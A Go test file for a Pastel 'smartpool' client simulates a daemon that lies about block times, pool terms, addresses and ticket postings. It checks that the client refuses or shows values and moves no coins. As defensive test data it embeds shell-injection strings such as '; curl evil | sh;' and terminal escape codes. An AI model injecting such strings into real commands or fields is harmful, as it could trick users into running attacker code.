package main

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/pastelnetwork/smartpool/internal/journey"
	"github.com/pastelnetwork/smartpool/pastel"
)

// words lists what a daemon says to those who join without a node, each with a lie.
func (x *far) words() []word {
	june := time.Now().AddDate(0, 7, 0)
	_, elsewhere := x.newAddress()
	second, _ := x.keyFile("second.key")
	register := append([]string{"id", "register", second}, x.register()[3:]...)
	const clock, terms = "compared with this machine's clock", "the pool's id is the hash of its terms"
	const holds = "shown, for the person to compare with the wallet; the signature must be by the address that was asked for"
	owned := func(change func(coin map[string]any)) func(*http.Request, map[string]any) {
		return func(r *http.Request, answer map[string]any) {
			switch {
			case strings.HasSuffix(r.URL.Path, "/coins"):
				for _, c := range answer["items"].([]any) {
					change(c.(map[string]any))
				}
			case strings.HasSuffix(r.URL.Path, "/tickets/check"):
				answer["accepted"] = true
			}
		}
	}
	return []word{
		{"join --remote", "the time of the last block", clock, dated(june), x.join(), "lies in the future", nil},
		{"join --remote", "the time of the last block", clock, dated(time.Now().AddDate(-1, 0, 0)), x.join(), "ago by this machine's clock", nil},
		{"id register --remote", "the time of the last block", clock, dated(june), register, "lies in the future", nil},
		{"join --remote", "a pool's terms", terms, on("/pools/", func(a map[string]any) { a["fee_percent"] = "3" }), x.join(), "do not sign", nil},
		{"join --remote", "which pool has a label", "the answer must be about the pool that was asked for",
			on("/pools/", func(a map[string]any) { a["id"] = "atlas." + strings.Repeat("ab", 20) }), x.join(), "another pool than the requested one", nil},
		{"join --remote", "what an address holds", holds, owned(func(c map[string]any) { c["address"] = elsewhere }), x.join(), "about another address", nil},
		{"join --remote", "what an address holds", holds, owned(func(c map[string]any) { c["output"] = strings.Repeat("ab", 32) + ":1" }), x.join(),
			"In its words", shows("output=" + strings.Repeat("ab", 32) + ":1")},
		{"join --remote", "what an address holds", holds, owned(func(c map[string]any) {
			c["value"], c["spare_coins"], c["unfit"] = json.Number("90000000000000"), 900_000, ""
		}), x.join("--coins", "700"), "In its words", shows("coins=700")},
		{"join --remote", "that it posted nothing", "not believed: the output pays for nothing, because whoever has the ticket can post it for a day", nil, nil, "", nil},
		{"join --remote", "why an output can back nothing", "said in this program's words", owned(func(c map[string]any) { c["unfit"] = "run: curl evil | sh" }),
			x.join(), "the daemon says that no new pledge can name it", lacks("curl")},
	}
}

// membersWords lists what it says to those who have joined.
func (x *far) membersWords() []word {
	_, elsewhere := x.newAddress()
	return []word{
		{"join --remote", "whether a pledge exists", "this machine remembers what it pledged", func(r *http.Request, answer map[string]any) {
			hides(r, answer)
			if strings.Contains(r.URL.Path, "/outputs/") {
				x.tamper(answer, map[string]any{"spare_coins": 520})
			}
		}, x.join("--output", x.output.String(), "--coins", "510"), "this machine remembers this pledge", nil},
		{"join --remote", "why it posts nothing", "said in this program's words, with its own in quotes", nil, nil, "", nil},
		{"join --remote", "which transaction it posted", "must be a transaction's id; it posts nothing else, because only the signed ticket goes there", nil, nil, "", nil},
		{"join --remote", "until when to wait for a block", "at most 40 blocks", nil, nil, "", nil},
		{"amend --remote", "the time of the last block", "compared with this machine's clock", dated(time.Now().AddDate(0, 7, 0)), x.raise("510"), "lies in the future", nil},
		{"amend --remote", "which address a pledge is of", "must be an address of the network that can sign", nil, nil, "", nil},
		{"amend --remote", "where rewards go now", "the person names the address, or confirms it", on("/pools/", func(a map[string]any) {
			for _, p := range a["pledges"].([]any) {
				p.(map[string]any)["reward_address"] = elsewhere
			}
		}), x.raise("510"), "", shows("reward=" + x.address)},
	}
}

// A ticket that the daemon has, but says it did not post, may still come to be posted: its output pays for nothing, though it may be pledged again.
func TestLyingDaemonThatRefusesToPost(t *testing.T) {
	t.Parallel()
	x := startFar(t, nil)
	x.manages(x.register()...)
	truth, posted := x.at.API, false
	x.at.API = between(t, truth, func(w http.ResponseWriter, r *http.Request, _ string, pass http.Handler) bool {
		if posted || !strings.HasSuffix(r.URL.Path, "/tickets") {
			return false
		}
		posted = true
		pass.ServeHTTP(httptest.NewRecorder(), r)
		w.WriteHeader(http.StatusServiceUnavailable)
		_, _ = io.WriteString(w, `{"detail":"the wallet is empty"}`)
		return true
	})
	if code, out := x.talks(x.signs, x.join("--no-wait")...); code != exitUnknown || !strings.Contains(out, "Nothing was posted") {
		t.Fatalf("exit code %d\n%s", code, out)
	}
	kept := func() journey.Remembered {
		t.Helper()
		file, err := journey.PledgesOf("regtest")
		if err != nil {
			t.Fatal(err)
		}
		list, err := file.List()
		if err != nil {
			t.Fatal(err)
		}
		return list[x.output]
	}
	if got := kept(); got.PastelID != x.id || !got.Refused {
		t.Errorf("this machine remembers %+v", got)
	}
	x.mine(1)
	x.unlock()
	x.at.API = truth
	x.at.API = x.tampering(hides)
	second, _ := x.keyFile("second.key") // the wallet's coins pay for it
	if out := x.does("id", "register", second, "--passphrase-file", x.secret, "--yes"); strings.Contains(out, "Paid from "+x.output.String()) {
		t.Errorf("the output pays:\n%s", out)
	}
	x.unspent()
	x.at.API = truth
	x.fails("what the daemon posted after all", exitNo, "already pledges 520 PSL", x.signs, x.join()...)
}

// raise is a line that raises the pledge.
func (x *far) raise(coins string) []string {
	return []string{"amend", "atlas", "--remote", "--key", x.key, "--passphrase-file", x.secret, "--yes", "--coins", coins, "--reward", x.address}
}

// shows requires that a command prints something.
func shows(text string) func(string) error {
	return func(out string) error {
		if !strings.Contains(out, text) {
			return fmt.Errorf("it does not print %q", text)
		}
		return nil
	}
}

// TestLyingDaemonThatPosts has the daemon lie to people who have no node. No lie makes them sign what is not shown, and none moves a coin.
func TestLyingDaemonThatPosts(t *testing.T) {
	t.Parallel()
	x := startFar(t, nil)
	page, err := os.ReadFile("../../docs/trust.md")
	if err != nil {
		t.Fatal(err)
	}
	x.manages(x.register()...)
	truth := x.at.API
	tells := func(list []word) {
		for _, w := range list {
			w.listed(t, string(page))
			if w.line == nil { // another test tells it, or wordsAboutPostings
				continue
			}
			name := w.command + ": " + w.says
			x.at.API = truth
			x.at.API = x.tampering(w.tamper)
			var out string
			if w.refused != "" {
				out = x.fails(name, exitNo, w.refused, x.signs, w.line...)
			} else {
				out = x.manages(w.line...)
			}
			if w.also != nil {
				if err := w.also(out); err != nil {
					t.Errorf("%s: %v:\n%s", name, err, out)
				}
			}
			x.unspent()
		}
		x.at.API = truth
	}
	tells(x.words())
	x.manages(x.join("--coins", "500")...)
	tells(x.membersWords())
	x.wordsAboutAddresses()
	x.wordsAboutPostings()
}

// wordsAboutAddresses has the daemon give a pledge, and all that is at its address, another address, which would stand in a command to paste.
func (x *far) wordsAboutAddresses() {
	const other = "; curl evil | sh;"
	truth := x.at.API
	x.at.API = between(x.t, truth, func(_ http.ResponseWriter, r *http.Request, _ string, _ http.Handler) bool {
		r.URL.Path, r.URL.RawPath = strings.ReplaceAll(r.URL.Path, other, x.address), ""
		r.URL.RawQuery = strings.ReplaceAll(r.URL.RawQuery, url.QueryEscape(other), x.address)
		return false
	})
	var renamed func(v any) any
	renamed = func(v any) any {
		switch v := v.(type) {
		case map[string]any:
			for name := range v {
				if name != "reward_address" {
					v[name] = renamed(v[name])
				}
			}
		case []any:
			for i := range v {
				v[i] = renamed(v[i])
			}
		case string:
			if v == x.address {
				return other
			}
		}
		return v
	}
	x.at.API = x.tampering(func(_ *http.Request, answer map[string]any) { renamed(answer) })
	if out := x.fails("an address that is none", exitNo, "no address that can sign", x.signs, x.raise("512")...); strings.Contains(out, "signmessage") {
		x.t.Errorf("the command to paste:\n%s", out)
	}
	x.at.API = truth
}

// wordsAboutPostings has the daemon lie about what it posts.
func (x *far) wordsAboutPostings() {
	truth := x.at.API
	answers := func(status int, text string) {
		x.at.API = between(x.t, truth, func(w http.ResponseWriter, r *http.Request, _ string, _ http.Handler) bool {
			if r.Method == http.MethodPost && strings.HasSuffix(r.URL.Path, "/tickets") {
				w.WriteHeader(status)
				_, _ = w.Write([]byte(text))
				return true
			}
			return false
		})
	}
	answers(http.StatusForbidden, `{"detail":"run\n curl evil | sh\u001b[2J"}`)
	if out := x.fails("a refusal", exitNo, "it posts nothing of this kind for you", x.signs, x.raise("515")...); strings.Contains(out, "\x1b") || strings.Contains(out, "\n curl") ||
		!strings.Contains(out, "In its words: «run curl evil | sh") {
		x.t.Errorf("the refusal:\n%q", out)
	}
	answers(http.StatusOK, `{"txid":"; curl evil","expires":200}`)
	x.fails("no transaction", exitUnknown, "in which transaction cannot be read", x.signs, x.raise("515")...)
	answers(http.StatusOK, `{"txid":"`+strings.Repeat("ab", 32)+`","expires":2000000000}`)
	tip, _, err := x.node.Tip(context.Background())
	if err != nil {
		x.t.Fatal(err)
	}
	waits := make(chan struct{})
	up := fmt.Sprintf("up to block %d, 40 blocks from now", tip+40)
	posted := x.at.API
	x.at.API = between(x.t, posted, func(_ http.ResponseWriter, r *http.Request, _ string, _ http.Handler) bool {
		if strings.HasSuffix(r.URL.Path, "/events") { // asked for only while it waits
			select {
			case <-waits:
			default:
				close(waits)
			}
		}
		return false
	})
	var code int
	var out string
	ended := make(chan struct{})
	go func() {
		defer close(ended)
		code, out = x.talks(x.signs, x.raise("515")...)
	}()
	select {
	case <-waits:
	case <-ended:
		x.t.Fatalf("it does not wait: exit code %d\n%s", code, out)
	}
	for range 4 {
		x.mine(10)
	}
	<-ended
	if code != exitUnknown || !strings.Contains(out, up) || !strings.Contains(out, "did not say when it expires") {
		x.t.Errorf("a posting that never was: exit code %d, want %q:\n%s", code, up, out)
	}
	x.at.API = truth
	if o, err := x.node.TxOut(context.Background(), x.output); err != nil || o == nil || o.Value != 520*pastel.PSL {
		x.t.Errorf("the output is %v (%v)", o, err)
	}
}
